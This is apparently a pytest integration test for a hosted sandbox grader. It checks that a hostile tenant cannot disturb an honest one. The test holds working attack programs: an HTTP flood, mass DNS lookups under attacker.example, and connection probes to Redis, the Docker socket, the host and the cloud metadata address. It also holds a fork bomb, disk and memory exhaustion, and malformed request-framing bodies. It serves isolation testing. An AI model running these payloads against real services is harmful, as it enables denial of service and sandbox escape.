"""Two tenants on one run service at once, one of them hostile: the other's verdicts do not change (issue 27, "Done when").

The real stack (tests/service_stack.py: Redis, two workers on this Docker
engine, the API as processes) serves two tokens at the same time:

* the honest tenant sends corpus policies through ``RemoteBackend`` (proxy,
  no network, the plain container) and a reference attack;
* the hostile tenant, meanwhile, primes the cache with the honest tenant's
  exact requests, sends an over-limit body, a chunked one and one whose
  ``Content-Length`` understates it, polls the honest tenant's job ids (as if
  they had leaked), runs attacks that press on the shared machine (a fork
  bomb, a full ``/tmp`` and memory, a flood of requests at the shared
  simulated internet and of DNS queries, connections to the API, Redis and
  the host from inside the sandbox), and floods its rate and job cap.

Then: every honest verdict is the local Docker backend's for the same policy,
probe by probe, from a run of its own; the hostile tenant got the contract's
codes and bodies; its attacks were judged (never captured) and the workers
still serve; nothing the workers made is left behind.
"""

from __future__ import annotations

import http.client
import json
import secrets
import subprocess
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator, Optional

import pytest

from grader import load_policy
from grader.backends.remote import RemoteBackend
from grader.core.outcomes import RunResult
from grader.core.plan import RunPlan, build_plan
from grader.core.transport import run_request
from service_stack import REPO, ServiceStack, _children
from test_hostile_code import FILL, FORK_BOMB

pytestmark = [pytest.mark.docker, pytest.mark.slow]

CORPUS: dict[str, Optional[dict[str, Any]]] = json.loads(
    (Path(__file__).parent.parent / "fixtures" / "corpus.json").read_text()
)["policies"]
# behind a proxy (four), no network at all (read-src-only), the plain container
HONEST = ("seed-naive", "seed-secure", "pypi-download", "attacker-wildcard", "read-src-only", "plain-container")
PRIMED = ("seed-naive", "pypi-download")  # the hostile tenant sends these exact requests first
HOSTILE_RATE, HOSTILE_JOBS = 10, 2
FLOOD = 24  # requests at once: whatever minute they fall in, more than the rate in one of them
MARKER = "hostile-" + secrets.token_hex(6)  # in everything the hostile tenant's code sends


def _plan(name: str) -> RunPlan:
    raw = CORPUS[name]
    return build_plan(load_policy(raw) if raw is not None else None)


def _attack_source(program: str, *argv: str) -> str:
    return f"import sys\nsys.argv = {['attack.py', *argv]!r}\n" + program


HTTP_FLOOD = r"""
import json, sys, threading, time, urllib.error, urllib.request
marker, counts, lock = sys.argv[1], {}, threading.Lock()
deadline = time.monotonic() + 10
def hit(i):
    n = 0
    while time.monotonic() < deadline:
        # two allowed hosts on the shared simulated internet, and one the proxy refuses
        for url in (f"https://gist.github.com/{marker}/{i}/{n}", f"https://api.github.com/{marker}", f"https://pypi.org/{marker}"):
            try:
                urllib.request.urlopen(urllib.request.Request(url, data=marker.encode(), method="POST"), timeout=3).read()
                key = "ok"
            except urllib.error.HTTPError as exc:
                key = f"http-{exc.code}"
            except Exception as exc:
                key = type(exc).__name__
            with lock:
                counts[key] = counts.get(key, 0) + 1
        n += 1
threads = [threading.Thread(target=hit, args=(i,)) for i in range(24)]
for t in threads: t.start()
for t in threads: t.join()
print(json.dumps({"counts": counts}), flush=True)
"""

# from the plain container: DNS queries by the thousand, then every way towards the API, Redis, the engine and the host
REACH_STACK = r"""
import json, socket, struct, sys, threading, time
marker, port, redis_socket, hosts = sys.argv[1], int(sys.argv[2]), sys.argv[3], json.loads(sys.argv[4])
queries, deadline = [0], time.monotonic() + 4
def lookups(i):
    n = 0
    while time.monotonic() < deadline:
        try:
            socket.getaddrinfo(f"{marker}-{i}-{n}.attacker.example", 80)
        except OSError:
            pass
        n += 1
    queries[0] += n
threads = [threading.Thread(target=lookups, args=(i,)) for i in range(16)]
for t in threads: t.start()
for t in threads: t.join()
gateways = []
for line in open("/proc/net/route").read().splitlines()[1:]:
    f = line.split()
    if f[1] == "00000000" and f[2] != "00000000":
        gateways.append(socket.inet_ntoa(struct.pack("<L", int(f[2], 16))))
out = {"queries": queries[0], "gateways": gateways}
for host in [*hosts, *gateways, "127.0.0.1", "host.docker.internal", "172.17.0.1", "169.254.169.254"]:
    for p in (port, 6379):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((host, p))
            s.sendall(f"GET /healthz HTTP/1.0\r\n\r\n{marker}\r\n".encode())
            out[f"{host}:{p}"] = "connected"
        except OSError as exc:
            out[f"{host}:{p}"] = type(exc).__name__
        finally:
            s.close()
for path in (redis_socket, "/var/run/docker.sock", "/run/docker.sock"):
    u = socket.socket(socket.AF_UNIX)
    try:
        u.connect(path)
        out[path] = "connected"
    except OSError as exc:
        out[path] = type(exc).__name__
    finally:
        u.close()
print(json.dumps(out), flush=True)
"""

FILL_AND_EAT = FILL + r"""
blocks = []
try:
    while len(blocks) < 4096:  # 64 GiB: the memory limit ends it long before
        blocks.append(b"m" * (16 << 20))
except MemoryError:
    print(json.dumps({"memory_mib": 16 * len(blocks)}), flush=True)
"""


def _host_addresses() -> list[str]:
    out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, check=True).stdout
    return [line.split()[3].split("/")[0] for line in out.splitlines() if line.split()[1] != "lo"]


# --- the stack, and who its workers are --------------------------------------------------------


@dataclass
class _Stack:
    """The service, its two tokens, and every pid that may have labelled a container (workers and their horses)."""

    service: ServiceStack
    honest: str
    hostile: str
    pids: set[int] = field(default_factory=set)
    closed: bool = False

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            self.service.close()


@pytest.fixture(scope="module")
def stack() -> Iterator[_Stack]:
    from grader.hosted.tokens import issue_token

    service = ServiceStack(workers=2)  # ready: a worker is live (/readyz) before the first request
    tokens = service.directory / "tokens.json"
    s = _Stack(service, issue_token(tokens, "honest"),  # the defaults a class gets: 30 runs a minute, 4 jobs
               issue_token(tokens, "hostile", rate=HOSTILE_RATE, jobs=HOSTILE_JOBS))
    stop = threading.Event()

    def watch() -> None:  # a job runs in its worker (or, in fork mode, a work horse): its pid is on what it makes
        while not stop.is_set():
            for proc in list(service.workers.values()):
                s.pids.add(proc.pid)
                s.pids.update(_children(proc.pid))
            stop.wait(0.3)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        yield s
    finally:
        stop.set()
        watcher.join(5)
        s.close()


# --- the hostile tenant's requests -------------------------------------------------------------


def _raw(stack: ServiceStack, token: str, head: str, chunks: list[bytes]) -> tuple[int, Any]:
    """One request written by hand (``head`` without the final blank line), its body in ``chunks``; the answer."""
    conn = http.client.HTTPConnection("127.0.0.1", stack.port, timeout=30)
    try:
        conn.connect()
        assert conn.sock is not None
        conn.sock.sendall(f"{head}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n\r\n".encode())
        try:
            for chunk in chunks:
                conn.sock.sendall(chunk)
        except OSError:
            pass  # the server may answer and close before the whole body is sent: its answer is what counts
        response = http.client.HTTPResponse(conn.sock, method="POST")
        response.begin()
        return response.status, json.loads(response.read())
    finally:
        conn.close()


def _post(stack: ServiceStack, token: str, route: str, body: Any) -> tuple[int, Any]:
    return stack.request("POST", route, body, token=token)


@dataclass
class _Seen:
    """Everything the scenario observed, for the tests below to judge."""

    honest: dict[str, RunResult] = field(default_factory=dict)
    honest_attack: dict[str, Any] = field(default_factory=dict)
    honest_errors: list[str] = field(default_factory=list)
    reruns: list[str] = field(default_factory=list)
    primed: dict[str, dict[str, Any]] = field(default_factory=dict)  # the hostile's answers to the honest's requests
    bodies: dict[str, tuple[int, Any]] = field(default_factory=dict)  # 413, chunked, understated
    guesses: list[tuple[str, int, Any, int, Any]] = field(default_factory=list)  # (id, status, body, unknown status, body)
    cap: list[tuple[int, Any]] = field(default_factory=list)
    flood: list[tuple[int, Any]] = field(default_factory=list)
    attacks: dict[str, dict[str, Any]] = field(default_factory=dict)  # name -> the job's final answer
    hog: list[dict[str, Any]] = field(default_factory=list)
    seconds: float = 0.0
    tried: set[str] = field(default_factory=set)  # honest job ids (and variants) the hostile tenant asked for
    guessed_at: float = 0.0


def _honest_jobs(service: ServiceStack) -> list[str]:
    """The honest tenant's job ids, read from Redis as if they had leaked to the hostile tenant."""
    from grader.hosted.jobs import open_redis
    from grader.hosted.settings import service_settings

    settings = service_settings(service.env)
    conn = open_redis(settings)
    found = []
    for key in conn.scan_iter(match=f"{settings.prefix}job:*"):
        record = json.loads(conn.get(key) or b"{}")
        if record.get("token") == "honest":
            found.append(key.decode().rsplit(":", 1)[1])
    return found


def _guess(s: _Stack, seen: _Seen, *, now: bool = False) -> None:
    """Ask for every honest job id seen so far (each state it goes through), and once for its upper-case twin."""
    if not now and time.monotonic() - seen.guessed_at < 2:
        return
    seen.guessed_at = time.monotonic()
    for job in _honest_jobs(s.service):
        for variant in (job, job.upper()):
            if variant in seen.tried and variant != job:
                continue
            seen.tried.add(variant)
            unknown = uuid.uuid4().hex
            status, body = s.service.request("GET", f"/v1/jobs/{variant}", token=s.hostile)
            u_status, u_body = s.service.request("GET", f"/v1/jobs/{unknown}", token=s.hostile)
            seen.guesses.append((variant, status, json.dumps(body).replace(variant, "<id>"),
                                 u_status, json.dumps(u_body).replace(unknown, "<id>")))


def _wait_own(s: _Stack, url: str, seen: _Seen, timeout: float = 240) -> dict[str, Any]:
    """The hostile tenant waits for its own job, guessing the honest tenant's ids meanwhile."""
    deadline = time.monotonic() + timeout
    while True:
        status, body = s.service.request("GET", url, token=s.hostile)
        assert status == 200, body
        if body["status"] in ("finished", "failed"):
            return dict(body)
        assert time.monotonic() < deadline, f"the hostile tenant's job is still {body['status']}: {body}"
        _guess(s, seen)
        time.sleep(0.5)


def _hostile(s: _Stack, seen: _Seen, primed: threading.Event) -> None:
    svc = s.service
    # 1. the cache primed with the honest tenant's exact requests (public corpus policies), before it sends them
    tickets = {}
    for name in PRIMED:
        status, ticket = _post(svc, s.hostile, "/v1/runs", run_request(_plan(name)))
        assert status == 202, ticket
        tickets[name] = ticket
    for name, ticket in tickets.items():
        seen.primed[name] = _wait_own(s, ticket["url"], seen)
    primed.set()
    # 2. bodies: over the limit as declared, chunked past it, and a Content-Length that understates it
    big = b'{"policy": {"x": "' + b"a" * (300 * 1024) + b'"}}'
    seen.bodies["declared"] = _raw(svc, s.hostile, f"POST /v1/probe HTTP/1.1\r\nHost: x\r\nContent-Length: {len(big)}", [big])
    chunks = [b"%x\r\n%s\r\n" % (len(big[i:i + 65536]), big[i:i + 65536]) for i in range(0, len(big), 65536)] + [b"0\r\n\r\n"]
    seen.bodies["chunked"] = _raw(svc, s.hostile, "POST /v1/probe HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked", chunks)
    seen.bodies["understated"] = _raw(svc, s.hostile, "POST /v1/probe HTTP/1.1\r\nHost: x\r\nContent-Length: 100", [big])
    # 3. attacks on the machine: two at once fill the cap, a third is refused
    attacks = {
        "http-flood": {"level": "naive-gist", "source": _attack_source(HTTP_FLOOD, MARKER)},
        "fork-bomb": {"level": "plain-container", "source": _attack_source(FORK_BOMB)},
        "reach": {"level": "plain-container", "source": _attack_source(
            REACH_STACK, MARKER, str(svc.port), str(svc.redis.socket), json.dumps(_host_addresses()))},
        "fill-and-eat": {"level": "plain-container", "source": _attack_source(FILL_AND_EAT)},
    }
    names = list(attacks)
    urls = {}
    for name in names[:2]:
        status, ticket = _post(svc, s.hostile, "/v1/attack", attacks[name])
        assert status == 202, ticket
        urls[name] = ticket["url"]
    seen.cap.append(_post(svc, s.hostile, "/v1/attack", attacks[names[2]]))
    for name in names[:2]:
        seen.attacks[name] = _wait_own(s, urls[name], seen)
    for name in names[2:]:
        status, ticket = _post(svc, s.hostile, "/v1/attack", attacks[name])
        assert status == 202, ticket
        urls[name] = ticket["url"]
    # 4. a flood of policies made to hog the workers, each new (no cache), all at once
    hogs = [{"policy": {"network": {"allowedDomains": [f"h{i}-{MARKER}.example.com"]}}} for i in range(FLOOD)]
    with ThreadPoolExecutor(max_workers=8) as pool:
        seen.flood = list(pool.map(lambda b: _post(svc, s.hostile, "/v1/probe", b), hogs))
    for name in names[2:]:
        seen.attacks[name] = _wait_own(s, urls[name], seen)
    for status, ticket in seen.flood:
        if status == 202:
            seen.hog.append(_wait_own(s, ticket["url"], seen))
    _guess(s, seen)


def _remote_run(remote: RemoteBackend, name: str, seen: _Seen) -> None:
    result = remote.run(_plan(name))
    if any(o.outcome == "error" for o in result.probes):
        # "could not judge" is no verdict (the agreement test reruns it once, alone); a wrong verdict is never rerun
        seen.reruns.append(f"{name}: " + "; ".join(f"{o.id}: {o.evidence}" for o in result.probes if o.outcome == "error"))
        result = remote.run(_plan(name))
    seen.honest[name] = result


def _honest(s: _Stack, seen: _Seen, primed: threading.Event) -> None:
    remote = RemoteBackend(s.service.url, s.honest)
    source = (REPO / "solutions" / "attacks" / "plain-container.py").read_text()

    def one(name: str) -> None:
        try:
            if name == "attack":
                status, ticket = _post(s.service, s.honest, "/v1/attack", {"level": "plain-container", "source": source})
                assert status == 202, ticket
                seen.honest_attack = _wait_honest(s, ticket["url"])
                return
            if name in PRIMED:
                assert primed.wait(240), "the hostile tenant never primed the cache"
            _remote_run(remote, name, seen)
        except Exception as exc:  # noqa: BLE001 - reported by the test, with the policy's name
            seen.honest_errors.append(f"{name}: {type(exc).__name__}: {exc}")

    # three at once: under the honest token's cap of four jobs, so a 429 here could only come from the other tenant
    with ThreadPoolExecutor(max_workers=3) as pool:
        list(pool.map(one, [n for n in HONEST if n not in PRIMED] + ["attack", *PRIMED]))


def _wait_honest(s: _Stack, url: str) -> dict[str, Any]:
    deadline = time.monotonic() + 240
    while True:
        status, body = s.service.request("GET", url, token=s.honest)
        assert status == 200, body
        if body["status"] in ("finished", "failed"):
            return dict(body)
        assert time.monotonic() < deadline, body
        time.sleep(0.5)


@pytest.fixture(scope="module")
def seen(stack: _Stack) -> _Seen:
    """The two tenants at once: the honest one in three threads, the hostile one in another."""
    observed = _Seen()
    primed = threading.Event()
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=2) as pool:
        hostile = pool.submit(_hostile, stack, observed, primed)
        honest = pool.submit(_honest, stack, observed, primed)
        try:
            hostile.result(timeout=600)
        finally:
            primed.set()  # the honest tenant never waits for a hostile tenant that failed
            honest.result(timeout=600)
    _guess(stack, observed, now=True)  # the ids of jobs the honest tenant started last too
    observed.seconds = time.monotonic() - started
    return observed


# --- the honest tenant -------------------------------------------------------------------------


def test_the_honest_verdicts_are_local_dockers_probe_by_probe(seen: _Seen, docker_backend: Any, no_leftovers: None) -> None:
    assert seen.honest_errors == [], seen.honest_errors
    assert sorted(seen.honest) == sorted(HONEST)

    def local(name: str) -> RunResult:
        result: RunResult = docker_backend.run(_plan(name))
        if any(o.outcome == "error" for o in result.probes):
            result = docker_backend.run(_plan(name))
        return result

    with ThreadPoolExecutor(max_workers=2) as pool:
        here = dict(zip(HONEST, pool.map(local, HONEST)))
    for name in HONEST:
        there = seen.honest[name]
        # a real run at the service, never the static fallback a 429 or a 503 would have given
        assert there.backend == "docker" and there.extra["ran_at"] == seen_url(there), (name, there.notes)
        diff = [f"{a.id}: local={a.outcome} service={b.outcome} ({b.explanation}; {b.evidence})"
                for a, b in zip(here[name].probes, there.probes, strict=True) if (a.id, a.outcome) != (b.id, b.outcome)]
        assert diff == [], f"{name}:\n" + "\n".join(diff)
        assert all(p.evidence for p in there.probes if p.outcome != "error"), name


def seen_url(result: RunResult) -> str:
    return str(result.extra["ran_at"])


def test_the_honest_evidence_is_its_own(seen: _Seen, stack: _Stack) -> None:
    assert all(seen_url(r) == stack.service.url for r in seen.honest.values())
    runs = [r.run_id for r in seen.honest.values()]
    assert len(set(runs)) == len(runs), runs
    # the hostile tenant sent two of these exact requests first: the honest tenant still got runs of its own
    theirs = {p["result"]["run_id"] for p in seen.primed.values() if p["status"] == "finished"}
    theirs |= {h["result"]["run_id"] for h in seen.hog if h["status"] == "finished"}
    assert theirs and not theirs & set(runs), (theirs, runs)
    text = json.dumps([[(p.id, p.evidence) for p in r.probes] for r in seen.honest.values()])
    assert MARKER not in text  # nothing the hostile tenant's code sent is in the honest tenant's evidence
    attack = seen.honest_attack
    assert attack["status"] == "finished" and attack["result"]["captured"] is True, attack
    assert MARKER not in json.dumps(attack)


# --- the hostile tenant ------------------------------------------------------------------------


def _error(body: Any, code: str) -> dict[str, Any]:
    assert isinstance(body, dict) and set(body) == {"error"}, body
    err = body["error"]
    assert err["code"] == code and isinstance(err["message"], str) and err["message"], body
    return dict(err)


def test_the_hostile_bodies_get_413_or_400_and_start_nothing(seen: _Seen) -> None:
    for framing in ("declared", "chunked"):
        status, body = seen.bodies[framing]
        assert status == 413, (framing, body)
        assert _error(body, "too_large")["limit"] == "262144 bytes"
    # a Content-Length of 100: the server reads 100 bytes (HTTP's framing), which are not JSON
    status, body = seen.bodies["understated"]
    assert status in (400, 413), body
    _error(body, "invalid" if status == 400 else "too_large")


def test_the_honest_job_ids_are_404_to_the_hostile_tenant_as_an_unknown_id_is(seen: _Seen, stack: _Stack) -> None:
    jobs = set(_honest_jobs(stack.service))
    assert len(jobs) > len(HONEST) and jobs <= {g[0] for g in seen.guesses}, (jobs, seen.tried)  # every one was tried
    for job, status, body, u_status, u_body in seen.guesses:
        assert (status, body) == (u_status, u_body) == (404, u_body), (job, body, u_body)
        assert "result" not in body and "honest" not in body


def test_the_hostile_flood_gets_the_contracts_429s(seen: _Seen) -> None:
    status, body = seen.cap[0]
    assert status == 429 and _error(body, "too_many_jobs")["limit"] == f"{HOSTILE_JOBS} jobs", body
    codes = []
    for status, body in seen.flood:
        if status == 202:
            continue
        assert status == 429, body
        code = body["error"]["code"]
        limit = {"rate_limited": f"{HOSTILE_RATE}/min", "too_many_jobs": f"{HOSTILE_JOBS} jobs"}[code]
        assert _error(body, code)["limit"] == limit
        codes.append(code)
    assert "rate_limited" in codes, codes
    assert len(codes) >= FLOOD - HOSTILE_JOBS, seen.flood  # never more jobs than the cap


def test_the_hostile_attacks_are_judged_never_captured(seen: _Seen) -> None:
    assert sorted(seen.attacks) == ["fill-and-eat", "fork-bomb", "http-flood", "reach"]
    for name, answer in seen.attacks.items():
        if answer["status"] == "failed":  # a run that could not end well says why, in the contract's codes
            assert answer["error"]["code"] in ("run_failed", "unavailable", "timeout") and answer["error"]["message"], answer
            continue
        result = answer["result"]
        assert result["captured"] is not True, (name, result)
        assert result["hint"] or result.get("error"), (name, result)
    outputs = {n: a["result"]["output"] for n, a in seen.attacks.items() if a["status"] == "finished"}
    assert set(outputs) == set(seen.attacks), seen.attacks
    fork = _last_json(outputs["fork-bomb"])
    assert fork["error"].startswith("11 "), fork  # EAGAIN: the PID limit stopped it
    fill = _last_json(outputs["fill-and-eat"].split('{"memory_mib"')[0])
    assert fill["tmp"]["error"] == "ENOSPC", fill
    reach = _last_json(outputs["reach"])
    assert reach["queries"] > 0, reach
    connected = {k: v for k, v in reach.items() if v == "connected"}
    assert connected == {}, connected  # neither the API, nor Redis, nor the engine, nor the host
    flood = _last_json(outputs["http-flood"])
    assert flood["counts"].get("ok", 0) > 0, flood  # it really reached the shared internet


def _last_json(output: str) -> dict[str, Any]:
    for line in reversed(output.splitlines()):
        if line.startswith("{"):
            return dict(json.loads(line))
    raise AssertionError(f"no JSON line in the attack's output: {output[-2000:]!r}")


# --- the machine after ---------------------------------------------------------------------------


def test_both_workers_still_serve_a_probe(seen: _Seen, stack: _Stack) -> None:
    from rq.job import Job
    from rq.serializers import JSONSerializer

    from grader.hosted.jobs import open_redis
    from grader.hosted.settings import service_settings

    svc = stack.service
    assert all(p.poll() is None for p in svc.workers.values()), {n: p.poll() for n, p in svc.workers.items()}
    policies = [{"filesystem": {"allowRead": ["/project/src"]}},
                {"network": {"allowedDomains": [f"after-{secrets.token_hex(4)}.example.com"]}}]
    tickets = [_post(svc, stack.honest, "/v1/probe", {"policy": p}) for p in policies]
    assert all(status == 202 for status, _ in tickets), tickets
    answers = [_wait_honest(stack, t["url"]) for _, t in tickets]
    assert all(a["status"] == "finished" and a["result"]["backend"] == "docker" for a in answers), answers
    conn = open_redis(service_settings(svc.env))
    by = {Job.fetch(t["job"], connection=conn, serializer=JSONSerializer).worker_name for _, t in tickets}
    assert by <= set(svc.workers), by
    print(f"scenario: {seen.seconds:.0f} s; reruns of honest runs judged 'error': {seen.reruns}")


def test_nothing_the_workers_made_is_left_behind(stack: _Stack, docker_client: Any) -> None:
    from grader.backends.docker.backend import LABEL_PID, runs_root
    from grader.backends.docker.simnet import LABEL_HUB

    stack.close()  # workers stopped (SIGTERM: each finishes its job first)
    pids = {str(p) for p in stack.pids}
    assert len(pids) >= 2, "no worker was ever seen: nothing was checked"

    def ours(labels: dict[str, str]) -> bool:
        return labels.get(LABEL_PID) in pids and LABEL_HUB not in labels

    def left() -> list[str]:
        found = [c["Names"][0] for c in docker_client.api.containers(all=True, filters={"label": LABEL_PID})
                 if ours(c.get("Labels") or {})]
        found += [n["Name"] for n in docker_client.api.networks(filters={"label": LABEL_PID}) if ours(n.get("Labels") or {})]
        root = runs_root()
        for d in (root.iterdir() if root.is_dir() else ()):
            try:
                if str(json.loads((d / "owner.json").read_text()).get("pid")) in pids:
                    found.append(str(d))
            except (OSError, ValueError):
                continue
        return found

    deadline = time.monotonic() + 90  # what finished runs handed the hub's keeper, it removes in the background
    while (remaining := left()) and time.monotonic() < deadline:
        time.sleep(1)
    assert remaining == [], remaining
